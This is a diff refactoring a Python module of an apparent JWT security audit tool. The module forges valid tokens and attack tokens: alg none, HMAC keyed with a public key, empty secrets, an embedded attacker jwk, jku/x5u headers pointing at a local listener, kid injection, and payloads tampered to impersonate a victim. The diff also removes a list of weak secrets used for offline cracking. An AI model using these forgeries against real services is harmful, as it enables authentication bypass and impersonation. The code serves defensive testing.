@@ -1,24 +1,20 @@
 """JWT forge: the valid baseline and every attack variant of the probe checklist.
 
-Valid tokens are signed through PyJWT's algorithm objects. Attack tokens that PyJWT
-refuses to make (``alg: none``, HMAC keyed with a PEM public key, empty keys, broken
-encodings) are assembled by hand: ``base64url(header) . base64url(payload) . signature``.
+Valid tokens are signed through PyJWT's algorithm objects; attack tokens PyJWT refuses to
+make are assembled by hand (:mod:`.jws`). Key material comes from :mod:`.keys`; a
+:class:`Forged` token's evidence carries its header and claims, never the signature or
+the key.
 
-Secrets and private keys come only from the environment variables a profile names
-(:func:`load_keys`); a :class:`Forged` token's evidence carries its header and claims,
-never the signature or the key.
+:class:`Forger` is the one object the probes use. It is built from a :class:`Minter`
+(header, claims, signing: the valid tokens) and one mixin per attack family —
+:class:`SignatureAttacks` (probes 3–9), :class:`HeaderKeyAttacks` (10–12) and
+:class:`ClaimAttacks` (13, 15) — with the attacker's own keys in :class:`AttackerKeys`.
 """
 
 from __future__ import annotations
 
-import base64
 import datetime as dt
-import hashlib
-import hmac
-import json
-import logging
 import os
-import secrets as _secrets
 import time
 import uuid
 from dataclasses import dataclass, field
@@ -29,187 +25,15 @@ from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ec, rsa
 from cryptography.x509.oid import NameOID
-from jwt.algorithms import ECAlgorithm, RSAAlgorithm, get_default_algorithms
+from jwt.algorithms import ECAlgorithm, RSAAlgorithm
 
-from ..errors import ConfigError
-from .profile import Profile, render
+from .jws import assemble, assemble_hmac, b64url, json_bytes, sign_with, split_token
+from .keys import Keys
+from .profile import Profile
+from .templates import render
 
-log = logging.getLogger(__name__)
-
-#: A small list of secrets seen in tutorials, templates and leaked configs (plus blank).
-#: Only checked OFFLINE against the baseline token; never sent as a brute force.
-COMMON_SECRETS: tuple[str, ...] = (
-    "", "secret", "secret123", "secretkey", "secret_key", "secret-key", "SECRET_KEY", "password",
-    "changeme", "change-me", "changeit", "jwt", "jwt_secret", "jwt-secret", "jwtsecret", "JWT_SECRET_KEY",
-    "your-secret-key", "your_secret_key", "your-256-bit-secret", "your-secret-key-change-in-production",
-    "your-super-secret-jwt-key-change-in-production", "mysecret", "my-secret", "supersecret",
-    "super-secret", "s3cr3t", "key", "test", "testing", "admin", "default", "development",
-    "dev-secret", "infra-mind", "infra_mind", "infra-mind-secret", "123456", "qwerty", "letmein", "token",
-)
-_HASH = {"256": hashlib.sha256, "384": hashlib.sha384, "512": hashlib.sha512}
 _CURVE = {"ES256": ec.SECP256R1, "ES384": ec.SECP384R1, "ES512": ec.SECP521R1}
 DROP = object()  #: claim override meaning "leave this claim out"
-
-
-def b64url(data: bytes) -> str:
-    """base64url without padding (RFC 7515 §2)."""
-    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")
-
-
-def b64url_decode(text: str) -> bytes:
-    """Inverse of :func:`b64url` (padding restored)."""
-    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
-
-
-def _json(obj: Any) -> bytes:
-    return json.dumps(obj, separators=(",", ":")).encode()
-
-
-def split_token(token: str) -> tuple[dict[str, Any] | None, dict[str, Any] | None, str]:
-    """Decode a compact JWS without verifying: (header, claims, signature_b64); None where undecodable."""
-    parts = token.split(".")
-    out: list[Any] = [None, None]
-    for i in range(2):
-        try:
-            v = json.loads(b64url_decode(parts[i]))
-            out[i] = v if isinstance(v, dict) else None
-        except (IndexError, ValueError, UnicodeDecodeError):
-            pass
-    return out[0], out[1], parts[2] if len(parts) > 2 else ""
-
-
-def hmac_sign(signing_input: bytes, key: bytes, alg: str = "HS256") -> bytes:
-    """Raw HMAC signature with any key bytes (also PEM/DER public keys or b'')."""
-    return hmac.new(key, signing_input, _HASH[alg[-3:]]).digest()
-
-
-def assemble(header: dict[str, Any], claims: dict[str, Any], signature: bytes | str = b"") -> str:
-    """Compact token from parts; ``signature`` raw bytes or an already-encoded string."""
-    sig = signature if isinstance(signature, str) else b64url(signature)
-    return f"{b64url(_json(header))}.{b64url(_json(claims))}.{sig}"
-
-
-def assemble_hmac(header: dict[str, Any], claims: dict[str, Any], key: bytes) -> str:
-    """Hand-built HS* token (the algorithm is taken from ``header['alg']``)."""
-    signing_input = f"{b64url(_json(header))}.{b64url(_json(claims))}".encode()
-    return f"{signing_input.decode()}.{b64url(hmac_sign(signing_input, key, header['alg']))}"
-
-
-def sign_with(header: dict[str, Any], claims: dict[str, Any], key: Any) -> str:
-    """Token signed with the algorithm named in ``header['alg']`` using PyJWT's primitives."""
-    alg = header["alg"]
-    if alg.startswith("HS"):
-        return assemble_hmac(header, claims, key if isinstance(key, bytes) else str(key).encode())
-    algo = get_default_algorithms()[alg]
-    signing_input = f"{b64url(_json(header))}.{b64url(_json(claims))}".encode()
-    return f"{signing_input.decode()}.{b64url(algo.sign(signing_input, key))}"
-
-
-def weak_secret_matches(token: str, candidates: tuple[str, ...] = COMMON_SECRETS) -> list[int]:
-    """Indexes of ``candidates`` whose HMAC verifies ``token`` (offline; HS* only).
-
-    Returns indexes, not values, so a report never prints a secret.
-    """
-    header, _, sig = split_token(token)
-    if not header or not str(header.get("alg", "")).startswith("HS") or str(header["alg"])[-3:] not in _HASH:
-        return []
-    signing_input = token.rsplit(".", 1)[0].encode()
-    try:
-        want = b64url_decode(sig)
-    except ValueError:
-        return []
-    return [i for i, c in enumerate(candidates)
-            if hmac.compare_digest(hmac_sign(signing_input, c.encode(), header["alg"]), want)]
-
-
-@dataclass(frozen=True)
-class Keys:
-    """Key material for minting: the configured algorithm plus secret or key pair."""
-
-    algorithm: str
-    secret: bytes | None = None
-    private_key: Any = None
-    public_pem: bytes | None = None
-    generated: bool = False
-
-    @property
-    def signing_key(self) -> Any:
-        return self.secret if self.algorithm.startswith("HS") else self.private_key
-
-    def secret_texts(self) -> list[str]:
-        """Values that must never appear in output (for redaction)."""
-        out = []
-        if self.secret:
-            out.append(self.secret.decode("utf-8", "replace"))
-        if self.private_key is not None:
-            pem = self.private_key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
-                                                 serialization.NoEncryption()).decode()
-            out.extend(line for line in pem.splitlines() if len(line) > 16 and "PRIVATE KEY" not in line)
-        return out
-
-
-def generate_secret() -> str:
-    """A random 256-bit HS256 secret for a run against in-process reference targets."""
-    return _secrets.token_urlsafe(32)
-
-
-def _pem_from_env(value: str) -> bytes:
-    return value.replace("\\n", "\n").encode()
-
-
-def load_keys(profile: Profile, *, secret: str | None = None) -> Keys:
-    """Read the profile's key material from the environment.
-
-    Parameters
-    ----------
-    profile : Profile
-        Names the algorithm and the env vars (``secret_env``, ``private_key_env``, ``public_key_env``).
-    secret : str, optional
-        Use this HS* secret instead of the env var (in-process reference targets only).
-
-    Returns
-    -------
-    Keys
-
-    Raises
-    ------
-    ConfigError
-        One line when a named variable is unset or holds an unusable key.
-    """
-    where = f"profile {profile.source or profile.name}"
-
-    def env(key: str, required: bool) -> str | None:
-        name = getattr(profile, key)
-        value = os.environ.get(name) if name else None
-        if required and not value:
-            raise ConfigError(f"{where}: {key} names environment variable {name or '(none)'}, which is not set")
-        return value or None
-
-    alg = profile.algorithm
-    public_pem = None
-    pub_text = env("public_key_env", False)
-    if pub_text:
-        try:
-            pub = serialization.load_pem_public_key(_pem_from_env(pub_text))
-        except ValueError:
-            raise ConfigError(f"{where}: {profile.public_key_env} does not hold a PEM public key") from None
-        public_pem = pub.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
-    if alg.startswith("HS"):
-        value = secret if secret is not None else env("secret_env", True)
-        return Keys(alg, secret=value.encode(), public_pem=public_pem, generated=secret is not None)
-    text = env("private_key_env", True)
-    try:
-        key = serialization.load_pem_private_key(_pem_from_env(text), password=None)
-    except (ValueError, TypeError):
-        raise ConfigError(f"{where}: {profile.private_key_env} does not hold an unencrypted PEM private key") from None
-    if alg.startswith(("RS", "PS")) and not isinstance(key, rsa.RSAPrivateKey):
-        raise ConfigError(f"{where}: {alg} needs an RSA private key in {profile.private_key_env}")
-    if alg.startswith("ES") and not isinstance(key, ec.EllipticCurvePrivateKey):
-        raise ConfigError(f"{where}: {alg} needs an EC private key in {profile.private_key_env}")
-    if public_pem is None:
-        public_pem = key.public_key().public_bytes(serialization.Encoding.PEM,
-                                                   serialization.PublicFormat.SubjectPublicKeyInfo)
-    return Keys(alg, private_key=key, public_pem=public_pem)
 
 
 def _apply(base: dict[str, Any], overrides: dict[str, Any]) -> dict[str, Any]:
@@ -243,8 +67,45 @@ class Forged:
         return {"token": self.label, "header": self.header, "claims": self.claims, "signed": self.note}
 
 
-class Forger:
-    """Mints the baseline and the attack variants for one profile and key set.
+class AttackerKeys:
+    """The attacker's key pairs (made on first use) and the documents a fetching target would trust."""
+
+    @cached_property
+    def rsa(self) -> rsa.RSAPrivateKey:
+        """A 2048-bit RSA key (jwk, jku, x5u and wrong-key tokens)."""
+        return rsa.generate_private_key(public_exponent=65537, key_size=2048)
+
+    @cached_property
+    def ec(self) -> ec.EllipticCurvePrivateKey:
+        """A P-256 key (embedded EC jwk, ES256 wrong-key tokens)."""
+        return ec.generate_private_key(ec.SECP256R1())
+
+    def key_for(self, alg: str) -> Any:
+        """A key of the attacker's for ``alg`` (random bytes for HS*)."""
+        if alg.startswith("HS"):
+            return os.urandom(32)
+        if alg.startswith(("RS", "PS")):
+            return self.rsa
+        return self.ec if alg == "ES256" else ec.generate_private_key(_CURVE[alg]())
+
+    def jwks_document(self) -> dict[str, Any]:
+        """JWKS the local listener serves for ``jku``."""
+        return {"keys": [dict(RSAAlgorithm.to_jwk(self.rsa.public_key(), as_dict=True),
+                              kid="ws-audit-jku", use="sig", alg="RS256")]}
+
+    def x509_pem(self) -> bytes:
+        """Self-signed certificate of the attacker key the listener serves for ``x5u``."""
+        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "ws-audit attacker")])
+        now = dt.datetime.now(dt.timezone.utc)
+        cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
+                .public_key(self.rsa.public_key()).serial_number(x509.random_serial_number())
+                .not_valid_before(now - dt.timedelta(minutes=5)).not_valid_after(now + dt.timedelta(days=1))
+                .sign(self.rsa, hashes.SHA256()))
+        return cert.public_bytes(serialization.Encoding.PEM)
+
+
+class Minter:
+    """Valid tokens for one profile and key set: header, claims, signature (probes 1, 14, 16, 21).
 
     Parameters
     ----------
@@ -257,18 +118,21 @@ class Forger:
     def __init__(self, profile: Profile, keys: Keys, now: float | None = None) -> None:
         self.profile = profile
         self.keys = keys
+        self.attacker = AttackerKeys()
         self._now = now
 
-    # --- building blocks -------------------------------------------------------
     @property
     def now(self) -> int:
+        """The clock, in whole seconds."""
         return int(self._now if self._now is not None else time.time())
 
     @property
     def alg(self) -> str:
+        """The configured algorithm."""
         return self.keys.algorithm
 
     def header(self, **extra: Any) -> dict[str, Any]:
+        """The configured header (alg, typ, kid) with ``extra`` entries; ``DROP`` removes one."""
         h: dict[str, Any] = {"alg": self.alg, "typ": self.profile.typ or "JWT"}
         if self.profile.kid:
             h["kid"] = self.profile.kid
@@ -284,6 +148,7 @@ class Forger:
         return _apply(c, overrides)
 
     def sign(self, header: dict[str, Any], claims: dict[str, Any]) -> str:
+        """Token signed with the configured key."""
         return sign_with(header, claims, self.keys.signing_key)
 
     def make(self, label: str, claims: dict[str, Any] | None = None, header: dict[str, Any] | None = None,
@@ -293,22 +158,6 @@ class Forger:
         c = claims if claims is not None else self.claims()
         return Forged(label, self.sign(h, c), h, c, note or f"{h['alg']} with the configured key", expect)
 
-    @cached_property
-    def attacker_rsa(self) -> rsa.RSAPrivateKey:
-        return rsa.generate_private_key(public_exponent=65537, key_size=2048)
-
-    @cached_property
-    def attacker_ec(self) -> ec.EllipticCurvePrivateKey:
-        return ec.generate_private_key(ec.SECP256R1())
-
-    def _attacker_key(self, alg: str) -> Any:
-        if alg.startswith("HS"):
-            return os.urandom(32)
-        if alg.startswith(("RS", "PS")):
-            return self.attacker_rsa
-        return self.attacker_ec if alg == "ES256" else ec.generate_private_key(_CURVE[alg]())
-
-    # --- probe 1 / 21 / 16 -----------------------------------------------------
     def baseline(self, sub: str | None = None) -> Forged:
         """Valid token for ``sub`` (default: the profile's subject)."""
         return self.make("baseline", self.claims(sub), expect="accept")
@@ -317,33 +166,37 @@ class Forger:
         """Valid token expiring ``seconds`` from now (probe 14)."""
         return self.make(f"exp in {seconds} s", self.claims(exp=self.now + seconds), expect="accept")
 
-    # --- probe 3 ---------------------------------------------------------------
+
+class SignatureAttacks(Minter):
+    """Tokens whose encoding, signature or algorithm is wrong (probes 3–9)."""
+
     def malformed(self) -> list[Forged]:
+        """Probe 3: not a JWT, two segments, bad base64, non-JSON header."""
         c = self.claims()
         return [
             Forged("garbage string", "ws-audit-garbage-token", None, None, "not a JWT"),
-            Forged("2 segments", f"{b64url(_json(self.header()))}.{b64url(_json(c))}", self.header(), c,
+            Forged("2 segments", f"{b64url(json_bytes(self.header()))}.{b64url(json_bytes(c))}", self.header(), c,
                    "no signature segment"),
             Forged("bad base64", "!!!.@@@.###", None, None, "segments are not base64url"),
-            Forged("non-JSON header", f"{b64url(b'not json')}.{b64url(_json(c))}.{b64url(os.urandom(32))}",
+            Forged("non-JSON header", f"{b64url(b'not json')}.{b64url(json_bytes(c))}.{b64url(os.urandom(32))}",
                    None, c, "header decodes to non-JSON"),
         ]
 
-    # --- probe 4 ---------------------------------------------------------------
     def tampered(self) -> list[Forged]:
+        """Probe 4: payload changed under the original signature; signature truncated."""
         base = self.baseline()
         _, _, sig = split_token(base.token)
         c = dict(base.claims or {}, sub=self.profile.victim_subject)
         head = base.token.split(".")[0]
         return [
-            Forged("payload sub→victim, original signature", f"{head}.{b64url(_json(c))}.{sig}", base.header, c,
+            Forged("payload sub→victim, original signature", f"{head}.{b64url(json_bytes(c))}.{sig}", base.header, c,
                    "baseline signature over a different payload"),
             Forged("signature truncated by 4 chars", base.token[:-4], base.header, base.claims,
                    "baseline with the last 4 signature characters removed"),
         ]
 
-    # --- probe 5 ---------------------------------------------------------------
     def alg_none(self) -> list[Forged]:
+        """Probe 5: four spellings of ``none``, with an empty and with the old signature."""
         base = self.baseline()
         _, _, sig = split_token(base.token)
         out = []
@@ -355,23 +208,22 @@ class Forger:
                               base.claims, "unsigned header with the baseline's signature"))
         return out
 
-    # --- probe 6 ---------------------------------------------------------------
     def null_signature(self) -> list[Forged]:
+        """Probe 6: HS256 with an empty and with an all-zero signature."""
         h, c = self.header(alg="HS256"), self.claims()
         return [
             Forged("HS256, empty signature", assemble(h, c, b""), h, c, "empty signature"),
             Forged("HS256, all-zero signature", assemble(h, c, bytes(32)), h, c, "32 zero bytes"),
         ]
 
-    # --- probe 7 ---------------------------------------------------------------
     def wrong_key(self) -> list[Forged]:
+        """Probe 7: the configured header signed with a random key."""
         h, c = self.header(), self.claims()
-        return [Forged("same alg and kid, wrong key", sign_with(h, c, self._attacker_key(self.alg)), h, c,
+        return [Forged("same alg and kid, wrong key", sign_with(h, c, self.attacker.key_for(self.alg)), h, c,
                        f"{self.alg} with a random key")]
 
-    # --- probe 8 ---------------------------------------------------------------
     def confusion(self) -> list[Forged]:
-        """HS256 keyed with the server's public key (PEM, PEM ± trailing newline, DER)."""
+        """Probe 8: HS256 keyed with the server's public key (PEM, PEM ± trailing newline, DER)."""
         pem = self.keys.public_pem
         if not pem:
             return []
@@ -386,7 +238,7 @@ class Forger:
                 for name, key in variants.items()]
 
     def disallowed_algs(self) -> list[Forged]:
-        """Correctly signed tokens with algorithms outside the pinned one."""
+        """Probe 8: correctly signed tokens with algorithms outside the pinned one."""
         out = []
         c = self.claims()
         family = self.alg[:2]
@@ -401,50 +253,39 @@ class Forger:
             else:
                 if alg.startswith("HS"):
                     continue  # HS with the public key is the confusion case; with a random key it is wrong_key
-                key, note = self._attacker_key(alg), f"{alg} with an attacker key"
+                key, note = self.attacker.key_for(alg), f"{alg} with an attacker key"
             out.append(Forged(f"alg {alg}", sign_with(h, c, key), h, c, note))
         return out
 
-    # --- probe 9 ---------------------------------------------------------------
     def empty_secret(self) -> list[Forged]:
+        """Probe 9: HS256 signed with an empty key."""
         h, c = self.header(alg="HS256"), self.claims()
         return [Forged('HS256 signed with ""', assemble_hmac(h, c, b""), h, c, "HMAC with an empty key")]
 
-    # --- probe 10 --------------------------------------------------------------
+
+class HeaderKeyAttacks(Minter):
+    """Tokens whose header tells the target which key to use (probes 10–12)."""
+
     def jwk_header(self) -> list[Forged]:
+        """Probe 10: the attacker's public key embedded as ``jwk`` (RSA and EC)."""
         c = self.claims()
-        rsa_jwk = RSAAlgorithm.to_jwk(self.attacker_rsa.public_key(), as_dict=True)
-        ec_jwk = ECAlgorithm.to_jwk(self.attacker_ec.public_key(), as_dict=True)
+        rsa_jwk = RSAAlgorithm.to_jwk(self.attacker.rsa.public_key(), as_dict=True)
+        ec_jwk = ECAlgorithm.to_jwk(self.attacker.ec.public_key(), as_dict=True)
         h1 = {"alg": "RS256", "typ": "JWT", "jwk": dict(rsa_jwk, kid="ws-audit-jwk")}
         h2 = {"alg": "ES256", "typ": "JWT", "jwk": dict(ec_jwk, kid="ws-audit-jwk")}
-        return [Forged("embedded RSA jwk", sign_with(h1, c, self.attacker_rsa), h1, c, "RS256 with the embedded key"),
-                Forged("embedded EC jwk", sign_with(h2, c, self.attacker_ec), h2, c, "ES256 with the embedded key")]
-
-    # --- probe 11 --------------------------------------------------------------
-    def jwks_document(self) -> dict[str, Any]:
-        """JWKS the local listener serves for ``jku``."""
-        return {"keys": [dict(RSAAlgorithm.to_jwk(self.attacker_rsa.public_key(), as_dict=True),
-                              kid="ws-audit-jku", use="sig", alg="RS256")]}
-
-    def x509_pem(self) -> bytes:
-        """Self-signed certificate of the attacker key the listener serves for ``x5u``."""
-        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "ws-audit attacker")])
-        now = dt.datetime.now(dt.timezone.utc)
-        cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
-                .public_key(self.attacker_rsa.public_key()).serial_number(x509.random_serial_number())
-                .not_valid_before(now - dt.timedelta(minutes=5)).not_valid_after(now + dt.timedelta(days=1))
-                .sign(self.attacker_rsa, hashes.SHA256()))
-        return cert.public_bytes(serialization.Encoding.PEM)
+        return [Forged("embedded RSA jwk", sign_with(h1, c, self.attacker.rsa), h1, c, "RS256 with the embedded key"),
+                Forged("embedded EC jwk", sign_with(h2, c, self.attacker.ec), h2, c, "ES256 with the embedded key")]
 
     def jku_x5u(self, base_url: str) -> list[Forged]:
+        """Probe 11: ``jku`` / ``x5u`` pointing at the local listener at ``base_url``."""
         c = self.claims()
         h1 = {"alg": "RS256", "typ": "JWT", "kid": "ws-audit-jku", "jku": f"{base_url}/jwks.json"}
         h2 = {"alg": "RS256", "typ": "JWT", "x5u": f"{base_url}/cert.pem"}
-        return [Forged("jku → local listener", sign_with(h1, c, self.attacker_rsa), h1, c, "RS256, attacker key"),
-                Forged("x5u → local listener", sign_with(h2, c, self.attacker_rsa), h2, c, "RS256, attacker key")]
+        return [Forged("jku → local listener", sign_with(h1, c, self.attacker.rsa), h1, c, "RS256, attacker key"),
+                Forged("x5u → local listener", sign_with(h2, c, self.attacker.rsa), h2, c, "RS256, attacker key")]
 
-    # --- probe 12 --------------------------------------------------------------
     def kid_injection(self) -> list[Forged]:
+        """Probe 12: ``kid`` path traversal, SQL and command injection, unknown kid."""
         c = self.claims()
         cases = [
             ("kid path traversal to /dev/null", "../../../../../../../dev/null", b"", "HS256 with an empty key"),
@@ -459,8 +300,12 @@ class Forger:
             out.append(Forged(label, assemble_hmac(h, c, key), h, c, note))
         return out
 
-    # --- probe 13 --------------------------------------------------------------
+
+class ClaimAttacks(Minter):
+    """Correctly signed tokens whose claims are wrong (probes 13, 15)."""
+
     def exp_nbf(self) -> list[Forged]:
+        """Probe 13: exp past (beyond / within leeway), exp missing, nbf in the future."""
         now, lw = self.now, int(self.profile.leeway_s)
         out = [self.make("exp past (beyond leeway)", self.claims(iat=now - lw - 600, exp=now - lw - 120))]
         if lw >= 2:
@@ -469,8 +314,8 @@ class Forger:
         out.append(self.make("nbf in the future", self.claims(nbf=now + lw + 600)))
         return out
 
-    # --- probe 15 --------------------------------------------------------------
     def iss_aud_type(self) -> list[Forged]:
+        """Probe 15: wrong and missing iss / aud / token_type (those the profile sets), wrong typ."""
         out = []
         for claim in ("iss", "aud", "token_type"):
             if claim in self.profile.claims:
@@ -479,3 +324,7 @@ class Forger:
         if self.profile.typ:
             out.append(self.make("wrong typ header", header=self.header(typ="ws-audit-wrong+jwt")))
         return out
+
+
+class Forger(SignatureAttacks, HeaderKeyAttacks, ClaimAttacks):
+    """Mints the baseline and every attack variant for one profile and key set (see the module docstring)."""
